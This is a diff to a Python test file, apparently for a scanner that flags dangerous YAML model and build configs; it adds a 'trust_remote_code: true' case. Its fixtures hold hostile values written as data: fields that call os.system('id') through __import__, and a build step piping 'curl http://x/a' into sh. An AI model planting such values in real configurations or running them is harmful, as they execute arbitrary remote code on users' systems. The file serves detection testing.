@@ -65,6 +65,7 @@ def _yaml() -> Iterator[Case]:
     yield "yolo activation", "m.yaml", b"nc: 80\nactivation: __import__('os').system('id')\n", "yaml-code"
     yield "cog step", "cog.yaml", b"build:\n  run:\n    - curl http://x/a | sh\n", "yaml-code"
     yield "yolo download", "d.yaml", b"names: [a]\ndownload: |\n  import os\n  os.system('id')\n", "yaml-code"
+    yield "trusting server", "serve.yaml", b"model: acme/tiny\ntrust_remote_code: true\n", "yaml-trust-remote-code"
     yield "yolo shell", "d.yaml", b"names: [a]\ndownload: bash get.sh\n", "yaml-download-script"
     binary = b"a: 1\n# " + b"x" * 9000 + b"\n# \x80\x02\x00"
     yield "yaml that is no text to its end", "c.yaml", binary, "yaml-not-understood"
